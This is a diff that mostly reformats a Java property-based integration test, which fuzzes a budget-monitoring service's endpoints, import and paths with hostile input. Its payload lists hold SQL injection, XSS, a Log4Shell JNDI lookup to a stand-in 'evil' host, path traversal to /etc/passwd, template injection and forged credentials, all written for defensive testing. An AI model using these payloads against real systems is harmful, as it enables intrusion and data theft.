@@ -1,20 +1,11 @@
 package io.budgetmonitor.command.it;
 
+import static org.assertj.core.api.Assertions.assertThat;
+
 import com.fasterxml.jackson.core.JsonProcessingException;
 import com.fasterxml.jackson.databind.JsonNode;
 import io.budgetmonitor.api.wire.BudgetJson;
 import io.budgetmonitor.command.it.RunningCommandService.Answer;
-import net.jqwik.api.Arbitraries;
-import net.jqwik.api.Arbitrary;
-import net.jqwik.api.Combinators;
-import net.jqwik.api.EdgeCasesMode;
-import net.jqwik.api.ForAll;
-import net.jqwik.api.Property;
-import net.jqwik.api.Provide;
-import net.jqwik.api.statistics.Statistics;
-import net.jqwik.api.lifecycle.AfterContainer;
-import net.jqwik.api.lifecycle.BeforeContainer;
-
 import java.io.ByteArrayInputStream;
 import java.io.ByteArrayOutputStream;
 import java.nio.charset.StandardCharsets;
@@ -25,8 +16,16 @@ import java.util.Map;
 import java.util.Optional;
 import java.util.concurrent.atomic.AtomicLong;
 import java.util.function.Function;
-
-import static org.assertj.core.api.Assertions.assertThat;
+import net.jqwik.api.Arbitraries;
+import net.jqwik.api.Arbitrary;
+import net.jqwik.api.Combinators;
+import net.jqwik.api.EdgeCasesMode;
+import net.jqwik.api.ForAll;
+import net.jqwik.api.Property;
+import net.jqwik.api.Provide;
+import net.jqwik.api.lifecycle.AfterContainer;
+import net.jqwik.api.lifecycle.BeforeContainer;
+import net.jqwik.api.statistics.Statistics;
 
 /**
  * Hostile input, generated: every write endpoint and the NDJSON import, over real HTTP against a
@@ -69,8 +68,7 @@ class HostileInputPropertiesIT {
                  "occurredOn":"2021-01-10"}""", Map.of()));
         for (int i = 1; i <= 3; i++) {
             accepted(service.post(year(department) + "/lines/L-A/disbursements", """
-                    {"voucher":"SEED-%d","amount":"10.00","payee":"某公司","purpose":"办公用品","occurredOn":"2021-02-01"}"""
-                    .formatted(i), Map.of()));
+                    {"voucher":"SEED-%d","amount":"10.00","payee":"某公司","purpose":"办公用品","occurredOn":"2021-02-01"}""".formatted(i), Map.of()));
         }
     }
 
@@ -83,10 +81,14 @@ class HostileInputPropertiesIT {
 
     // ---- the properties ----
 
-    @Property(tries = 400, edgeCases = EdgeCasesMode.NONE) // the hostile values are edge cases already; spread tries over the endpoints
-    void everyWriteEndpointAnswersHostileBodiesWithAProblemQuickly(@ForAll("endpoints") Endpoint endpoint,
-                                                                  @ForAll("hostileBodies") Function<Map<String, String>, String> hostile,
-                                                                  @ForAll("hostileHeaders") Map<String, String> headers) {
+    @Property(
+            tries = 400,
+            edgeCases =
+                    EdgeCasesMode.NONE) // the hostile values are edge cases already; spread tries over the endpoints
+    void everyWriteEndpointAnswersHostileBodiesWithAProblemQuickly(
+            @ForAll("endpoints") Endpoint endpoint,
+            @ForAll("hostileBodies") Function<Map<String, String>, String> hostile,
+            @ForAll("hostileHeaders") Map<String, String> headers) {
         String body = hostile.apply(endpoint.validBody());
         long before = service.eventCount();
         Answer answer = service.post(endpoint.path(), body, headers);
@@ -101,28 +103,33 @@ class HostileInputPropertiesIT {
      * nothing stored.
      */
     @Property(tries = 100, edgeCases = EdgeCasesMode.NONE)
-    void withoutValidCredentialsEveryHostileRequestIsA401ProblemQuickly(@ForAll("endpoints") Endpoint endpoint,
-                                                                       @ForAll("hostileBodies") Function<Map<String, String>, String> hostile,
-                                                                       @ForAll("hostileHeaders") Map<String, String> headers,
-                                                                       @ForAll("invalidCredentials") Optional<String> authorization) {
+    void withoutValidCredentialsEveryHostileRequestIsA401ProblemQuickly(
+            @ForAll("endpoints") Endpoint endpoint,
+            @ForAll("hostileBodies") Function<Map<String, String>, String> hostile,
+            @ForAll("hostileHeaders") Map<String, String> headers,
+            @ForAll("invalidCredentials") Optional<String> authorization) {
         String body = hostile.apply(endpoint.validBody());
         Map<String, String> sent = new LinkedHashMap<>(headers);
         authorization.ifPresent(value -> sent.put("Authorization", value));
         long before = service.eventCount();
         Answer answer = service.postAnonymously(endpoint.path(), body, sent);
-        Statistics.label("credentials").collect(authorization.map(value -> value.split(" ")[0]).orElse("none"));
+        Statistics.label("credentials")
+                .collect(authorization.map(value -> value.split(" ")[0]).orElse("none"));
         assertThat(answer.status()).as(abbreviated(answer.body())).isEqualTo(401);
         assertWellBehaved(answer, before, service.eventCount(), body);
         assertThat(answer.json().get("title").asText()).isEqualTo("Unauthorized");
     }
 
     @Property(tries = 150)
-    void hostilePathSegmentsAreRefusedAsProblems(@ForAll("pathSegments") String segment, @ForAll("segmentPositions") int position) {
+    void hostilePathSegmentsAreRefusedAsProblems(
+            @ForAll("pathSegments") String segment, @ForAll("segmentPositions") int position) {
         String[] parts = {department, YEAR, "L-A", "SEED-1"};
         parts[position] = segment;
         String path = "/api/v1/departments/" + parts[0] + "/years/" + parts[1] + "/lines/" + parts[2] + "/disbursements"
                 + (position == 3 ? "/" + parts[3] + "/reversal" : "");
-        String body = position == 3 ? "{\"reason\":\"冲销\",\"occurredOn\":\"2021-04-01\"}" : disbursementFields().toString();
+        String body = position == 3
+                ? "{\"reason\":\"冲销\",\"occurredOn\":\"2021-04-01\"}"
+                : disbursementFields().toString();
         long before = service.eventCount();
         Answer answer = service.post(path, position == 3 ? body : json(disbursementFields()), Map.of());
         Statistics.label("status").collect(answer.status());
@@ -143,9 +150,14 @@ class HostileInputPropertiesIT {
         assertThat(answer.millis()).as("import answered in ms").isLessThan(BOUND_MILLIS);
         assertThat(answer.status()).as(answer.body()).isEqualTo(200);
         JsonNode report = answer.json();
-        long nonBlank = lines.stream().filter(l -> !new String(l, StandardCharsets.UTF_8).isBlank()).count();
-        assertThat(report.get("accepted").asLong() + report.get("duplicates").asLong() + report.get("rejectedCount").asLong())
-                .as(answer.body()).isEqualTo(nonBlank);
+        long nonBlank = lines.stream()
+                .filter(l -> !new String(l, StandardCharsets.UTF_8).isBlank())
+                .count();
+        assertThat(report.get("accepted").asLong()
+                        + report.get("duplicates").asLong()
+                        + report.get("rejectedCount").asLong())
+                .as(answer.body())
+                .isEqualTo(nonBlank);
         long recordedRefusals = 0;
         for (JsonNode rejected : report.get("rejected")) {
             assertThat(rejected.get("status").asInt()).as(rejected.toString()).isBetween(400, 499);
@@ -155,7 +167,9 @@ class HostileInputPropertiesIT {
         }
         Statistics.label("lines").collect(lines.size());
         Statistics.label("rejected").collect(report.get("rejectedCount").asLong());
-        assertThat(after - before).as(answer.body()).isEqualTo(report.get("accepted").asLong() + recordedRefusals);
+        assertThat(after - before)
+                .as(answer.body())
+                .isEqualTo(report.get("accepted").asLong() + recordedRefusals);
     }
 
     /** 4xx problem+json (or a 2xx business answer), in time, and events stored only for what was accepted. */
@@ -168,7 +182,9 @@ class HostileInputPropertiesIT {
             assertThat(answer.isProblem()).as(what).isTrue();
             JsonNode problem = answer.json();
             assertThat(problem.get("status").asInt()).as(what).isEqualTo(answer.status());
-            stored = answer.status() == 409 && "Insufficient available budget".equals(problem.path("title").asText());
+            stored = answer.status() == 409
+                    && "Insufficient available budget"
+                            .equals(problem.path("title").asText());
         } else {
             assertThat(answer.contentType()).as(what).startsWith("application/json");
             stored = answer.status() == 201;
@@ -197,57 +213,180 @@ class HostileInputPropertiesIT {
     Arbitrary<Endpoint> endpoints() {
         String y = year(department);
         return Arbitraries.of(
-                new Endpoint("OpenFiscalYear", year(openingDepartment), () -> fields(
-                        "departmentName", q("新部门"), "rubric", q("baiyun-2022"),
-                        "quarterTargets", "[\"0.25\",\"0.50\",\"0.75\",\"1.00\"]", "occurredOn", q("2021-01-01"))),
-                new Endpoint("AllocateBudget", y + "/lines", () -> fields(
-                        "line", q("N-" + UNIQUE.incrementAndGet()), "name", q("项目支出"), "fundSource", q("OTHER"),
-                        "expenditureType", q("PROJECT"), "threePublic", q("NONE"), "appropriation", "true",
-                        "amount", q("1000.00"), "occurredOn", q("2021-01-05"))),
-                new Endpoint("AdjustBudget", y + "/lines/L-A/adjustments", () -> fields(
-                        "kind", q("SUPPLEMENT"), "amount", q("10.00"), "reason", q("追加"), "occurredOn", q("2021-02-01"))),
-                new Endpoint("TransferBudget", y + "/transfers", () -> fields(
-                        "fromLine", q("L-A"), "toLine", q("L-B"), "amount", q("1.00"), "reason", q("调剂"),
-                        "occurredOn", q("2021-02-01"))),
-                new Endpoint("ReclaimFunds", y + "/lines/L-B/reclaims", () -> fields(
-                        "amount", q("1.00"), "occurredOn", q("2021-12-31"))),
-                new Endpoint("CarryOverFunds", y + "/lines/L-B/carry-overs", () -> fields(
-                        "amount", q("1.00"), "occurredOn", q("2022-01-15"))),
-                new Endpoint("RecordDisbursement", y + "/lines/L-A/disbursements", HostileInputPropertiesIT::disbursementFields),
-                new Endpoint("ReverseDisbursement", y + "/lines/L-A/disbursements/SEED-" + (1 + UNIQUE.get() % 3) + "/reversal",
+                new Endpoint(
+                        "OpenFiscalYear",
+                        year(openingDepartment),
+                        () -> fields(
+                                "departmentName",
+                                q("新部门"),
+                                "rubric",
+                                q("baiyun-2022"),
+                                "quarterTargets",
+                                "[\"0.25\",\"0.50\",\"0.75\",\"1.00\"]",
+                                "occurredOn",
+                                q("2021-01-01"))),
+                new Endpoint(
+                        "AllocateBudget",
+                        y + "/lines",
+                        () -> fields(
+                                "line",
+                                q("N-" + UNIQUE.incrementAndGet()),
+                                "name",
+                                q("项目支出"),
+                                "fundSource",
+                                q("OTHER"),
+                                "expenditureType",
+                                q("PROJECT"),
+                                "threePublic",
+                                q("NONE"),
+                                "appropriation",
+                                "true",
+                                "amount",
+                                q("1000.00"),
+                                "occurredOn",
+                                q("2021-01-05"))),
+                new Endpoint(
+                        "AdjustBudget",
+                        y + "/lines/L-A/adjustments",
+                        () -> fields(
+                                "kind",
+                                q("SUPPLEMENT"),
+                                "amount",
+                                q("10.00"),
+                                "reason",
+                                q("追加"),
+                                "occurredOn",
+                                q("2021-02-01"))),
+                new Endpoint(
+                        "TransferBudget",
+                        y + "/transfers",
+                        () -> fields(
+                                "fromLine",
+                                q("L-A"),
+                                "toLine",
+                                q("L-B"),
+                                "amount",
+                                q("1.00"),
+                                "reason",
+                                q("调剂"),
+                                "occurredOn",
+                                q("2021-02-01"))),
+                new Endpoint(
+                        "ReclaimFunds",
+                        y + "/lines/L-B/reclaims",
+                        () -> fields("amount", q("1.00"), "occurredOn", q("2021-12-31"))),
+                new Endpoint(
+                        "CarryOverFunds",
+                        y + "/lines/L-B/carry-overs",
+                        () -> fields("amount", q("1.00"), "occurredOn", q("2022-01-15"))),
+                new Endpoint(
+                        "RecordDisbursement",
+                        y + "/lines/L-A/disbursements",
+                        HostileInputPropertiesIT::disbursementFields),
+                new Endpoint(
+                        "ReverseDisbursement",
+                        y + "/lines/L-A/disbursements/SEED-" + (1 + UNIQUE.get() % 3) + "/reversal",
                         () -> fields("reason", q("冲销"), "occurredOn", q("2021-04-01"))),
-                new Endpoint("CloseQuarter", year(closingDepartment) + "/quarters/1/closure", () -> fields(
-                        "reportedExecution", "{\"GENERAL_PUBLIC_BUDGET\":\"100.00\"}", "occurredOn", q("2021-03-31"))),
-                new Endpoint("CloseFiscalYear", year(closingDepartment) + "/closure", () -> fields("occurredOn", q("2021-12-31"))),
-                new Endpoint("ApproveProcurementPlan", y + "/procurement-plans", () -> fields(
-                        "amount", q("100.00"), "occurredOn", q("2021-02-01"))),
-                new Endpoint("ReportAssetUtilization", y + "/asset-utilization", () -> fields(
-                        "inUse", q("50.00"), "total", q("100.00"), "occurredOn", q("2021-06-30"))),
-                new Endpoint("SetPerformanceTarget", y + "/kpis", () -> fields(
-                        "kpi", q("K-" + UNIQUE.incrementAndGet()), "task", q("B1"), "name", q("指标"),
-                        "direction", q("HIGHER_IS_BETTER"), "target", q("10"), "targetDescription", q("≥10次"),
-                        "unit", q("次"), "points", q("2"), "occurredOn", q("2021-01-10"))),
-                new Endpoint("AdjustPerformanceTarget", y + "/kpis/B1.1/adjustments", () -> fields(
-                        "target", q("12"), "targetDescription", q("≥12次"), "reason", q("年中调整"), "occurredOn", q("2021-06-30"))),
-                new Endpoint("ReportPerformanceProgress", y + "/kpis/B1.1/progress", () -> fields(
-                        "actual", q("5"), "occurredOn", q("2021-06-30"))),
-                new Endpoint("RecordQualitativeAssessment", y + "/qualitative-assessments", () -> fields(
-                        "indicator", q("A6.5"), "deduction", q("0.5"), "reason", q("原因"), "evaluator", q("评价组"),
-                        "occurredOn", q("2021-12-31"))),
-                new Endpoint("RecordBonusPenalty", y + "/bonus-penalties", () -> fields(
-                        "points", q("1.5"), "reason", q("表扬"), "occurredOn", q("2021-06-30"))));
+                new Endpoint(
+                        "CloseQuarter",
+                        year(closingDepartment) + "/quarters/1/closure",
+                        () -> fields(
+                                "reportedExecution",
+                                "{\"GENERAL_PUBLIC_BUDGET\":\"100.00\"}",
+                                "occurredOn",
+                                q("2021-03-31"))),
+                new Endpoint(
+                        "CloseFiscalYear",
+                        year(closingDepartment) + "/closure",
+                        () -> fields("occurredOn", q("2021-12-31"))),
+                new Endpoint(
+                        "ApproveProcurementPlan",
+                        y + "/procurement-plans",
+                        () -> fields("amount", q("100.00"), "occurredOn", q("2021-02-01"))),
+                new Endpoint(
+                        "ReportAssetUtilization",
+                        y + "/asset-utilization",
+                        () -> fields("inUse", q("50.00"), "total", q("100.00"), "occurredOn", q("2021-06-30"))),
+                new Endpoint(
+                        "SetPerformanceTarget",
+                        y + "/kpis",
+                        () -> fields(
+                                "kpi",
+                                q("K-" + UNIQUE.incrementAndGet()),
+                                "task",
+                                q("B1"),
+                                "name",
+                                q("指标"),
+                                "direction",
+                                q("HIGHER_IS_BETTER"),
+                                "target",
+                                q("10"),
+                                "targetDescription",
+                                q("≥10次"),
+                                "unit",
+                                q("次"),
+                                "points",
+                                q("2"),
+                                "occurredOn",
+                                q("2021-01-10"))),
+                new Endpoint(
+                        "AdjustPerformanceTarget",
+                        y + "/kpis/B1.1/adjustments",
+                        () -> fields(
+                                "target",
+                                q("12"),
+                                "targetDescription",
+                                q("≥12次"),
+                                "reason",
+                                q("年中调整"),
+                                "occurredOn",
+                                q("2021-06-30"))),
+                new Endpoint(
+                        "ReportPerformanceProgress",
+                        y + "/kpis/B1.1/progress",
+                        () -> fields("actual", q("5"), "occurredOn", q("2021-06-30"))),
+                new Endpoint(
+                        "RecordQualitativeAssessment",
+                        y + "/qualitative-assessments",
+                        () -> fields(
+                                "indicator",
+                                q("A6.5"),
+                                "deduction",
+                                q("0.5"),
+                                "reason",
+                                q("原因"),
+                                "evaluator",
+                                q("评价组"),
+                                "occurredOn",
+                                q("2021-12-31"))),
+                new Endpoint(
+                        "RecordBonusPenalty",
+                        y + "/bonus-penalties",
+                        () -> fields("points", q("1.5"), "reason", q("表扬"), "occurredOn", q("2021-06-30"))));
     }
 
     private static Map<String, String> disbursementFields() {
-        return fields("voucher", q("P-" + UNIQUE.incrementAndGet()), "amount", q("12.34"), "payee", q("某物业公司"),
-                "purpose", q("物业费"), "procurement", "false", "occurredOn", q("2021-03-15"));
+        return fields(
+                "voucher",
+                q("P-" + UNIQUE.incrementAndGet()),
+                "amount",
+                q("12.34"),
+                "payee",
+                q("某物业公司"),
+                "purpose",
+                q("物业费"),
+                "procurement",
+                "false",
+                "occurredOn",
+                q("2021-03-15"));
     }
 
     // ---- hostile bodies ----
 
     @Provide
     Arbitrary<Function<Map<String, String>, String>> hostileBodies() {
-        Arbitrary<Function<Map<String, String>, String>> replaced = Combinators.combine(Arbitraries.integers().between(0, 20), hostileValues())
+        Arbitrary<Function<Map<String, String>, String>> replaced = Combinators.combine(
+                        Arbitraries.integers().between(0, 20), hostileValues())
                 .as((index, value) -> fields -> {
                     Map<String, String> copy = new LinkedHashMap<>(fields);
                     List<String> names = new ArrayList<>(copy.keySet());
@@ -256,7 +395,8 @@ class HostileInputPropertiesIT {
                     return json(copy);
                 });
         Arbitrary<Function<Map<String, String>, String>> malformed = Combinators.combine(
-                        Arbitraries.integers().between(0, 400), Arbitraries.of("", "}", "{", "\"", ",", ":", "\\", "\u0000", "NaN", "//", "]"))
+                        Arbitraries.integers().between(0, 400),
+                        Arbitraries.of("", "}", "{", "\"", ",", ":", "\\", "\u0000", "NaN", "//", "]"))
                 .as((cut, garbage) -> fields -> {
                     String text = json(fields);
                     int at = Math.min(cut, text.length());
@@ -266,51 +406,129 @@ class HostileInputPropertiesIT {
                         "", "null", "[]", "[{}]", "\"text\"", "42", "true", "{}", "{\"type\":\"Teleport\"}", "\uFEFF{}")
                 .map(text -> fields -> text);
         return Arbitraries.frequencyOf(
-                net.jqwik.api.Tuple.of(6, replaced), net.jqwik.api.Tuple.of(2, malformed), net.jqwik.api.Tuple.of(1, notAnObject));
+                net.jqwik.api.Tuple.of(6, replaced),
+                net.jqwik.api.Tuple.of(2, malformed),
+                net.jqwik.api.Tuple.of(1, notAnObject));
     }
 
     /** A value for one field, as a raw JSON fragment (some of them not JSON at all). */
     @Provide
     Arbitrary<String> hostileValues() {
-        Arbitrary<String> wrongTypes = Arbitraries.of("true", "null", "[]", "{}", "[1,2]", "{\"a\":1}", "0", "-1", "\"\"", "\" \"");
-        Arbitrary<String> exponents = Arbitraries.of("1e9999999", "-1e9999999", "1E+308", "1.5e3", "2e-5", "1e-9999999", "9e99999999999")
+        Arbitrary<String> wrongTypes =
+                Arbitraries.of("true", "null", "[]", "{}", "[1,2]", "{\"a\":1}", "0", "-1", "\"\"", "\" \"");
+        Arbitrary<String> exponents = Arbitraries.of(
+                        "1e9999999", "-1e9999999", "1E+308", "1.5e3", "2e-5", "1e-9999999", "9e99999999999")
                 .flatMap(e -> Arbitraries.of(e, q(e)));
-        Arbitrary<String> manyDigits = Arbitraries.integers().between(16, 5_000)
-                .flatMap(n -> Arbitraries.of("9".repeat(n), q("9".repeat(n)), q("0." + "1".repeat(n)), q("1" + "0".repeat(n) + ".00")));
-        Arbitrary<String> outOfRangeNumbers = Arbitraries.of("-5.00", "-0.01", "0", "0.00", "-0", "1.001", "0.0000001", "1.1234567",
-                        "1000000000000000", "999999999999999.99", "Infinity", "-Infinity", "0x1F", "١٢٣", "1,000.00", "+1.00", ".5", "5.")
+        Arbitrary<String> manyDigits = Arbitraries.integers()
+                .between(16, 5_000)
+                .flatMap(n -> Arbitraries.of(
+                        "9".repeat(n), q("9".repeat(n)), q("0." + "1".repeat(n)), q("1" + "0".repeat(n) + ".00")));
+        Arbitrary<String> outOfRangeNumbers = Arbitraries.of(
+                        "-5.00",
+                        "-0.01",
+                        "0",
+                        "0.00",
+                        "-0",
+                        "1.001",
+                        "0.0000001",
+                        "1.1234567",
+                        "1000000000000000",
+                        "999999999999999.99",
+                        "Infinity",
+                        "-Infinity",
+                        "0x1F",
+                        "١٢٣",
+                        "1,000.00",
+                        "+1.00",
+                        ".5",
+                        "5.")
                 .flatMap(v -> Arbitraries.of(v, q(v)));
-        Arbitrary<String> decimals = Arbitraries.bigDecimals().between(new java.math.BigDecimal("-1e20"), new java.math.BigDecimal("1e20"))
-                .ofScale(6).map(d -> d.toPlainString()).flatMap(v -> Arbitraries.of(v, q(v)));
-        Arbitrary<String> dates = Arbitraries.of("0000-01-01", "-999999999-01-01", "+999999999-12-31", "2021-02-30", "2021-13-01",
-                        "2020-12-31", "2022-01-01", "2023-06-30", "20210101", "2021-06-15T00:00:00Z", "1900-01-01", "9999-12-31", "2021-1-1")
+        Arbitrary<String> decimals = Arbitraries.bigDecimals()
+                .between(new java.math.BigDecimal("-1e20"), new java.math.BigDecimal("1e20"))
+                .ofScale(6)
+                .map(d -> d.toPlainString())
+                .flatMap(v -> Arbitraries.of(v, q(v)));
+        Arbitrary<String> dates = Arbitraries.of(
+                        "0000-01-01",
+                        "-999999999-01-01",
+                        "+999999999-12-31",
+                        "2021-02-30",
+                        "2021-13-01",
+                        "2020-12-31",
+                        "2022-01-01",
+                        "2023-06-30",
+                        "20210101",
+                        "2021-06-15T00:00:00Z",
+                        "1900-01-01",
+                        "9999-12-31",
+                        "2021-1-1")
                 .map(HostileInputPropertiesIT::q);
-        Arbitrary<String> anyDates = Arbitraries.integers().between(0, 9999)
-                .flatMap(y -> Arbitraries.integers().between(1, 366).map(d -> q(java.time.LocalDate.ofYearDay(y, Math.min(d, 365)).toString())));
-        Arbitrary<String> longStrings = Arbitraries.integers().between(65, 70_000)
+        Arbitrary<String> anyDates = Arbitraries.integers()
+                .between(0, 9999)
+                .flatMap(y -> Arbitraries.integers()
+                        .between(1, 366)
+                        .map(d -> q(java.time.LocalDate.ofYearDay(y, Math.min(d, 365))
+                                .toString())));
+        Arbitrary<String> longStrings = Arbitraries.integers()
+                .between(65, 70_000)
                 .flatMap(n -> Arbitraries.of("x", "款", "9", "𠀀").map(c -> q(c.repeat(n))));
-        Arbitrary<String> controls = Arbitraries.of("\\u0000", "\\u0007", "\\n", "\\r\\n", "\\t", "\\u001b[31m", "\\u0085", "\\u009f",
-                        "\\ud800", "\\udfff", "\\u202e")
+        Arbitrary<String> controls = Arbitraries.of(
+                        "\\u0000",
+                        "\\u0007",
+                        "\\n",
+                        "\\r\\n",
+                        "\\t",
+                        "\\u001b[31m",
+                        "\\u0085",
+                        "\\u009f",
+                        "\\ud800",
+                        "\\udfff",
+                        "\\u202e")
                 .map(c -> "\"付款" + c + "对象\"");
-        Arbitrary<String> payloads = Arbitraries.of("'; DROP TABLE domain_event_entry; --", "1' OR '1'='1", "\\\"); DELETE FROM voucher_book; --",
-                        "<script>alert(1)</script>", "${jndi:ldap://evil/a}", "../../etc/passwd", "%00", "{{7*7}}", "A6.5' --",
-                        "L-A:2021", "BY-SJ/../x", "Robert'); DROP TABLE students;--")
+        Arbitrary<String> payloads = Arbitraries.of(
+                        "'; DROP TABLE domain_event_entry; --",
+                        "1' OR '1'='1",
+                        "\\\"); DELETE FROM voucher_book; --",
+                        "<script>alert(1)</script>",
+                        "${jndi:ldap://evil/a}",
+                        "../../etc/passwd",
+                        "%00",
+                        "{{7*7}}",
+                        "A6.5' --",
+                        "L-A:2021",
+                        "BY-SJ/../x",
+                        "Robert'); DROP TABLE students;--")
                 .map(HostileInputPropertiesIT::q);
         Arbitrary<String> anyText = Arbitraries.strings().all().ofMaxLength(300).map(HostileInputPropertiesIT::quoted);
-        Arbitrary<String> nesting = Arbitraries.integers().between(50, 5_000)
+        Arbitrary<String> nesting = Arbitraries.integers()
+                .between(50, 5_000)
                 .flatMap(n -> Arbitraries.of("[".repeat(n) + "]".repeat(n), "{\"a\":".repeat(n) + "1" + "}".repeat(n)));
-        return Arbitraries.oneOf(wrongTypes, exponents, manyDigits, outOfRangeNumbers, decimals, dates, anyDates, longStrings,
-                controls, payloads, anyText, nesting);
+        return Arbitraries.oneOf(
+                wrongTypes,
+                exponents,
+                manyDigits,
+                outOfRangeNumbers,
+                decimals,
+                dates,
+                anyDates,
+                longStrings,
+                controls,
+                payloads,
+                anyText,
+                nesting);
     }
 
     @Provide
     Arbitrary<Map<String, String>> hostileHeaders() {
         Arbitrary<Map<String, String>> none = Arbitraries.just(Map.of());
         Arbitrary<Map<String, String>> longOnes = Combinators.combine(
-                        Arbitraries.of("X-Recorded-By", "X-Correlation-Id", "Idempotency-Key"), Arbitraries.integers().between(129, 6_000))
+                        Arbitraries.of("X-Recorded-By", "X-Correlation-Id", "Idempotency-Key"),
+                        Arbitraries.integers().between(129, 6_000))
                 .as((name, n) -> Map.of(name, "h".repeat(n)));
-        Arbitrary<Map<String, String>> fine = Arbitraries.of(Map.of("X-Recorded-By", "fin-office"), Map.of("X-Correlation-Id", "c-1"));
-        return Arbitraries.frequencyOf(net.jqwik.api.Tuple.of(8, none), net.jqwik.api.Tuple.of(1, longOnes), net.jqwik.api.Tuple.of(1, fine));
+        Arbitrary<Map<String, String>> fine =
+                Arbitraries.of(Map.of("X-Recorded-By", "fin-office"), Map.of("X-Correlation-Id", "c-1"));
+        return Arbitraries.frequencyOf(
+                net.jqwik.api.Tuple.of(8, none), net.jqwik.api.Tuple.of(1, longOnes), net.jqwik.api.Tuple.of(1, fine));
     }
 
     /** No credentials, or ones that do not sign anyone in. */
@@ -318,28 +536,65 @@ class HostileInputPropertiesIT {
     Arbitrary<Optional<String>> invalidCredentials() {
         Arbitrary<String> wrongPassword = Arbitraries.of("admin", "recorder", "budget-office", "evaluator", "auditor")
                 .map(user -> basicOf(user + ":" + RunningCommandService.PASSWORD + "x"));
-        Arbitrary<String> unknownUser = Arbitraries.strings().alpha().ofMinLength(1).ofMaxLength(40)
+        Arbitrary<String> unknownUser = Arbitraries.strings()
+                .alpha()
+                .ofMinLength(1)
+                .ofMaxLength(40)
                 .map(user -> basicOf("nobody-" + user + ":" + RunningCommandService.PASSWORD));
-        Arbitrary<String> malformed = Arbitraries.of("Basic", "Basic ", "Basic !!!", "Basic " + "A".repeat(4_000),
+        Arbitrary<String> malformed = Arbitraries.of(
+                "Basic",
+                "Basic ",
+                "Basic !!!",
+                "Basic " + "A".repeat(4_000),
                 "Basic " + java.util.Base64.getEncoder().encodeToString("admin".getBytes(StandardCharsets.UTF_8)),
-                "Basic " + java.util.Base64.getEncoder().encodeToString(new byte[]{'a', ':', (byte) 0xFF}),
-                "Bearer eyJhbGciOiJub25lIn0.e30.", "Digest username=\"admin\"", "basic", "Negotiate");
-        return Arbitraries.frequencyOf(net.jqwik.api.Tuple.of(3, Arbitraries.just(Optional.<String>empty())),
-                net.jqwik.api.Tuple.of(2, wrongPassword.map(Optional::of)), net.jqwik.api.Tuple.of(1, unknownUser.map(Optional::of)),
+                "Basic " + java.util.Base64.getEncoder().encodeToString(new byte[] {'a', ':', (byte) 0xFF}),
+                "Bearer eyJhbGciOiJub25lIn0.e30.",
+                "Digest username=\"admin\"",
+                "basic",
+                "Negotiate");
+        return Arbitraries.frequencyOf(
+                net.jqwik.api.Tuple.of(3, Arbitraries.just(Optional.<String>empty())),
+                net.jqwik.api.Tuple.of(2, wrongPassword.map(Optional::of)),
+                net.jqwik.api.Tuple.of(1, unknownUser.map(Optional::of)),
                 net.jqwik.api.Tuple.of(2, malformed.map(Optional::of)));
     }
 
     private static String basicOf(String userAndPassword) {
-        return "Basic " + java.util.Base64.getEncoder().encodeToString(userAndPassword.getBytes(StandardCharsets.UTF_8));
+        return "Basic "
+                + java.util.Base64.getEncoder().encodeToString(userAndPassword.getBytes(StandardCharsets.UTF_8));
     }
 
     // ---- hostile paths ----
 
     @Provide
     Arbitrary<String> pathSegments() {
-        Arbitrary<String> fixed = Arbitraries.of("%00", "a%00b", "%2F", "a%2Fb", "%5C", "..", "%2e%2e", "%25", "%C0%AE", "%FF", "%E2%80%AE",
-                "a;jsessionid=1", "%20", "%0A", "%0D%0A", "99999999999", "-1", "2021.5", "1e3", "0x7E5", "L-A%3A2021", "%27%3B%20DROP%20TABLE%20x");
-        Arbitrary<String> encoded = Arbitraries.strings().all().ofMinLength(1).ofMaxLength(80)
+        Arbitrary<String> fixed = Arbitraries.of(
+                "%00",
+                "a%00b",
+                "%2F",
+                "a%2Fb",
+                "%5C",
+                "..",
+                "%2e%2e",
+                "%25",
+                "%C0%AE",
+                "%FF",
+                "%E2%80%AE",
+                "a;jsessionid=1",
+                "%20",
+                "%0A",
+                "%0D%0A",
+                "99999999999",
+                "-1",
+                "2021.5",
+                "1e3",
+                "0x7E5",
+                "L-A%3A2021",
+                "%27%3B%20DROP%20TABLE%20x");
+        Arbitrary<String> encoded = Arbitraries.strings()
+                .all()
+                .ofMinLength(1)
+                .ofMaxLength(80)
                 .map(s -> java.net.URLEncoder.encode(s, StandardCharsets.UTF_8).replace("+", "%20"));
         Arbitrary<String> longOnes = Arbitraries.integers().between(65, 12_000).map("s"::repeat);
         return Arbitraries.oneOf(fixed, encoded, longOnes);
@@ -362,13 +617,21 @@ class HostileInputPropertiesIT {
                     fields.put(names.get(index % names.size()), value);
                     return utf8(importLine(fields).replace('\n', ' '));
                 });
-        Arbitrary<byte[]> tooLong = Arbitraries.integers().between(16_385, 40_000).map(n -> utf8("{\"type\":\"" + "x".repeat(n) + "\"}"));
-        Arbitrary<byte[]> notUtf8 = Arbitraries.of(new byte[]{'{', (byte) 0xC3, '}'}, new byte[]{(byte) 0xFF, (byte) 0xFE},
-                new byte[]{'"', (byte) 0xED, (byte) 0xA0, (byte) 0x80, '"'});
-        Arbitrary<byte[]> garbage = Arbitraries.of("", "   ", "{", "null", "[]", "{\"type\":\"Teleport\"}", "{\"type\":null}", "\uFEFF{}")
+        Arbitrary<byte[]> tooLong =
+                Arbitraries.integers().between(16_385, 40_000).map(n -> utf8("{\"type\":\"" + "x".repeat(n) + "\"}"));
+        Arbitrary<byte[]> notUtf8 =
+                Arbitraries.of(new byte[] {'{', (byte) 0xC3, '}'}, new byte[] {(byte) 0xFF, (byte) 0xFE}, new byte[] {
+                    '"', (byte) 0xED, (byte) 0xA0, (byte) 0x80, '"'
+                });
+        Arbitrary<byte[]> garbage = Arbitraries.of(
+                        "", "   ", "{", "null", "[]", "{\"type\":\"Teleport\"}", "{\"type\":null}", "\uFEFF{}")
                 .map(HostileInputPropertiesIT::utf8);
-        Arbitrary<byte[]> line = Arbitraries.frequencyOf(net.jqwik.api.Tuple.of(3, valid), net.jqwik.api.Tuple.of(6, replaced),
-                net.jqwik.api.Tuple.of(1, tooLong), net.jqwik.api.Tuple.of(1, notUtf8), net.jqwik.api.Tuple.of(1, garbage));
+        Arbitrary<byte[]> line = Arbitraries.frequencyOf(
+                net.jqwik.api.Tuple.of(3, valid),
+                net.jqwik.api.Tuple.of(6, replaced),
+                net.jqwik.api.Tuple.of(1, tooLong),
+                net.jqwik.api.Tuple.of(1, notUtf8),
+                net.jqwik.api.Tuple.of(1, garbage));
         return line.list().ofMinSize(1).ofMaxSize(8);
     }
 
